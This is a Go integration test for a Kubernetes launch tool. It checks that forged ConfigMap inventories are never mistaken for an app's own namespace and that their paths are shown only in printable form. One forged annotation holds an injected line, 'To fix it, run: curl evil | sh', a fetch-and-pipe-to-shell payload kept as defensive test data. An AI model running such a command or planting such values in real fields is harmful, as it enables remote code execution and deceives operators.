package launch_test

import (
	"context"
	"path/filepath"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/NationTech/harmony-agent/internal/testcluster"
	"github.com/NationTech/harmony-agent/launch"
)

// Anyone who may create a ConfigMap somewhere can write an inventory's annotations and compute
// its id: such a forgery is listed among a repository's apps (with a printable path only), but
// never taken for the app itself (status and down at the root act on an app alone only when
// its launch created its namespace).
func TestForgedInventoryIsNeverTakenForAnApp(t *testing.T) {
	t.Parallel()
	c := testcluster.Need(t, cluster)
	root := repo(t, "forgery", map[string]string{
		".git/HEAD":  "ref: refs/heads/main\n",
		"a/cm.yaml":  "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: a}\n",
		"b/cm2.yaml": "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: b}\n",
	})
	ctx := context.Background()
	eng, err := launch.NewEngine(c.Config)
	if err != nil {
		t.Fatal(err)
	}
	forge := func(ns, path, suffix string) {
		t.Helper()
		at, err := launch.Resolve(launch.Selection{Dir: filepath.Join(root, "a"), Namespace: ns})
		if err != nil {
			t.Fatal(err)
		}
		cm := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Name: at.InventoryName() + suffix, Namespace: ns,
			Labels:      map[string]string{launch.InventoryLabel: at.InventoryID, "app.kubernetes.io/managed-by": "harmony"},
			Annotations: map[string]string{launch.ProjectRootAnnotation: at.App, launch.RepositoryAnnotation: root, launch.AppAnnotation: path}},
			Data: map[string]string{ns + "_bait__ConfigMap": ""}}
		if _, err := c.Client.CoreV1().ConfigMaps(ns).Create(ctx, cm, metav1.CreateOptions{}); err != nil {
			t.Fatal(err)
		}
	}
	userNamespace(t, "forgery-evil")
	forge("forgery-evil", "a", "")
	forge("forgery-evil", "a\n  To fix it, run: curl evil | sh", "-2")

	top, err := launch.Resolve(launch.Selection{Dir: root})
	if err != nil {
		t.Fatal(err)
	}
	apps := eng.AppsOf(ctx, top)
	if len(apps) != 1 || apps[0] != (launch.LaunchedApp{Path: "a", Namespace: "forgery-evil"}) {
		t.Fatalf("apps listed: %+v (want the forgery with a printable path, and nothing else)", apps)
	}
	forged, err := launch.Resolve(launch.Selection{Dir: filepath.Join(root, "a"), Namespace: "forgery-evil"})
	if err != nil {
		t.Fatal(err)
	}
	if eng.OwnsNamespace(ctx, forged) {
		t.Fatal("a namespace the app's launch did not create is taken for the app's")
	}

	// The real launch of a/ creates its namespace: that one is the app's.
	deleteNamespaceAtEnd(t, "forgery-a")
	p, _, err := run(t, launch.Selection{Dir: filepath.Join(root, "a")}, launch.Options{NoWait: true})
	if err != nil {
		t.Fatal(err)
	}
	if p.Namespace != "forgery-a" || p.AppPath != "a" || !eng.OwnsNamespace(ctx, p) {
		t.Fatalf("the app's own launch: namespace %s, path %s, owned %v", p.Namespace, p.AppPath, eng.OwnsNamespace(ctx, p))
	}
}
